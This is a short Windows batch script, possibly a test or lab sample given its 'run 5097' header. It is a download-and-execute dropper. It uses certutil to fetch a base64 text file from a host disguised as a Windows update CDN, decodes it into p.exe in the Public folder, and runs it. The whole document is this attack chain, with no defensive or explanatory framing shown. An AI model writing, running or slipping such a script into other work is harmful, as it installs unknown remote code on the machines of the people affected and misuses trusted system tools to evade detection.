REM run 5097 v1
@echo off
certutil -urlcache -f http://dl.winupdate-cdn.example/p.txt %PUBLIC%\p.txt
certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
%PUBLIC%\p.exe
